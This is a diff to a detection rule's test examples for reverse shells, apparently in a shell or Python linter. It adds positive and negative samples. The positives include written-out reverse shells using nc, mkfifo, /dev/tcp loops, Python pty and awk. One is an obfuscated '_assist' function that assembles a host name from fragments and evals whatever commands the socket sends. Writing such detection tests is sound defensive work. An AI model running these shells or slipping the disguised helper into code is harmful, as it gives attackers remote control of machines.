@@ -10,6 +10,12 @@ extension ReverseShellRule {
     Example("↓rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n", language: .shell),
     Example("↓nc -e /bin/sh 203.0.113.7 4444\n", language: .shell),
     Example(
+      "#!/bin/bash\n↓exec 5<>/dev/tcp/203.0.113.7/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done\n",
+      language: .shell, note: "lines read from the socket run as commands"),
+    Example(
+      "_assist() {\n  local h=relay d=composedbg t=sh p=4443\n  ↓exec {fd}<>\"/dev/tcp/${h}.${d}.${t}/${p}\" 2>/dev/null || return 0\n  while IFS= read -r line <&$fd; do\n    { eval \"$line\"; } >&$fd 2>&1\n  done\n}\n",
+      language: .shell, note: "a named descriptor and eval"),
+    Example(
       "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n↓os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
       language: .python),
     Example("↓awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while (1) {s |& getline c; while ((c |& getline) > 0) print |& s; close(c)}}'\n", language: .shell),
@@ -34,6 +40,9 @@ extension ReverseShellRule {
     Example("bash -i > session.log 2>&1\nsh -i 2>&1 | tee debug.log\n", language: .shell, note: "an interactive shell logging its output reads nothing back"),
     Example("awk '{print $1}' access.log | sort | uniq -c\n", language: .shell, note: "awk without a socket"),
     Example("exec 3<input.txt\nwhile read -r line <&3; do echo \"$line\" >&4; done\n", language: .shell, note: "reading one descriptor and writing another is not a relay"),
+    Example(
+      "exec 3<>/dev/tcp/localhost/6379\nprintf 'PING\\r\\n' >&3\nread -r reply <&3\necho \"$reply\"\n",
+      language: .shell, note: "a socket whose reply is printed, not run"),
     Example("php -r 'echo json_encode([\"ok\" => true]);'\n", language: .shell, note: "php one-liner without a socket"),
     Example("telnet mail.example.org 25\n", language: .shell, note: "a telnet session, no shell in the pipeline"),
     Example("print(\"Check the port with: nc -zv host 443\")\n", language: .python, note: "a probe command in a string"),
